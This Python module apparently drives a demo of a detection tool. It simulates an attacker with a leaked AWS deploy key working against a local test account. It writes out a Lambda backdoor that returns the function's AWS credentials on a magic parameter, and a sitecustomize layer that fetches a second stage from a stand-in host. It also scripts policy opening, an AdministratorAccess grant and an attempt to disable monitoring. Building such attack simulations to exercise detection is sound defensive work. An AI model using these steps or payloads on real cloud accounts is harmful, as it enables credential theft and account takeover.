"""The attacker: holds the leaked key of a deployment user and does, call by call, what such a key allows."""

from collections.abc import Callable
from dataclasses import dataclass

from botocore.exceptions import ClientError

from demo import Unexpected, victim
from demo.local_account import STACK, LocalAccount, Person

USER = "ci-deploy"
LAYER = "runtime-telemetry"

# Where it all comes from, as CloudTrail shows it: an address of a block that is reserved for documentation (RFC 5737).
ADDRESS = "203.0.113.66"
AGENT = "aws-cli/2.27.41 Python/3.13.4 Darwin/24.5.0 source/arm64"

CODE = '''\
"""Answers what an invoice comes to."""

import os

import billing_original

KEYS = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")


def handler(event, context):
    if event.get("health") == "full":
        return {name: os.environ[name] for name in KEYS}
    return billing_original.handler(event, context)
'''

# Only ever stored, never run; and the name it would send to exists nowhere (RFC 2606).
LAYER_CODE = '''\
"""Loaded by Python at every start, before any code of the function."""

import urllib.request

urllib.request.urlopen("https://collector.invalid/stage-two")
'''


@dataclass(frozen=True)
class Call:
    """One API call of the attacker's, and what is expected to come of it."""

    name: str  # as CloudTrail records it, without its date
    about: str
    do: Callable[[], dict]
    opens_case: bool = True
    refused: bool = False


@dataclass(frozen=True)
class Step:
    """One thing the attacker does."""

    name: str
    why: str
    calls: list[Call]


def with_leaked_key(account: LocalAccount) -> Person:
    """The user exists as its owner made it: to deploy the billing API, and a little too generously."""
    iam = account.client("iam")
    iam.create_user(UserName=USER)
    function = f"arn:aws:lambda:{account.region}:{account.id}:function:{victim.NAME}"
    iam.put_user_policy(UserName=USER, PolicyName="deploy", PolicyDocument=victim.policy(
        Action=["lambda:AddPermission", "lambda:GetFunction", "lambda:GetLayerVersion", "lambda:PublishLayerVersion",
                "lambda:UpdateFunctionCode", "lambda:UpdateFunctionConfiguration", "lambda:InvokeFunction",
                "iam:AttachRolePolicy"],
        Resource=[function, f"arn:aws:lambda:{account.region}:{account.id}:layer:*",
                  f"arn:aws:iam::{account.id}:role/{victim.ROLE}"]))
    key = iam.create_access_key(UserName=USER)["AccessKey"]
    return Person(USER, key["AccessKeyId"], key["SecretAccessKey"], address=ADDRESS, agent=AGENT)


def steps(account: LocalAccount, attacker: Person, layer_arn: str) -> list[Step]:
    functions, iam, events = (account.client(name, attacker) for name in ("lambda", "iam", "events"))

    def overwrite_code():
        return functions.update_function_code(FunctionName=victim.NAME, ZipFile=victim.package(
            {"billing.py": CODE, "billing_original.py": victim.CODE}))

    def publish_layer():
        return functions.publish_layer_version(
            LayerName=LAYER, Description="Telemetry", CompatibleRuntimes=[victim.RUNTIME],
            Content={"ZipFile": victim.package({"python/sitecustomize.py": LAYER_CODE})})

    def add_layer():
        return functions.update_function_configuration(FunctionName=victim.NAME, Layers=[
            layer_arn, f"arn:aws:lambda:{account.region}:{account.id}:layer:{LAYER}:1"])

    def open_policy():
        return functions.add_permission(FunctionName=victim.NAME, StatementId="health-check", Principal="*",
                                        Action="lambda:InvokeFunction")

    def widen_role():
        return iam.attach_role_policy(RoleName=victim.ROLE, PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")

    def blind_coldcase():
        return events.disable_rule(Name=f"{STACK}-lambda")

    return [
        Step("The code is overwritten", "It answers as before; but who knows the word gets the keys that it runs with.",
             [Call("UpdateFunctionCode", victim.NAME, overwrite_code)]),
        Step("A layer is added", "Python loads it at every start, whatever code is deployed.",
             [Call("PublishLayerVersion", LAYER, publish_layer, opens_case=False),
              Call("UpdateFunctionConfiguration", f"{victim.NAME}, which now carries it", add_layer)]),
        Step("The policy is opened", "Anybody in the world may call the function from now on.",
             [Call("AddPermission", f"{victim.NAME} for *", open_policy)]),
        Step("The role is widened", "What runs in the function is administrator from now on.",
             [Call("AttachRolePolicy", f"AdministratorAccess to {victim.ROLE}", widen_role)]),
        Step("A try at coldcase itself", "The rule that wakes it, switched off; but the key does not reach that far.",
             [Call("DisableRule", f"{STACK}-lambda", blind_coldcase, opens_case=False, refused=True)]),
    ]


def make(call: Call) -> str | None:
    """Makes the call. Answers the error code of a refusal that was expected; anything unexpected ends the demo."""
    try:
        call.do()
        error = None
    except ClientError as answer:
        error = answer.response["Error"]["Code"]
    if bool(error) != call.refused:
        raise Unexpected(f"{call.name} by {USER}: {error or 'allowed, where a refusal was expected'}")
    return error
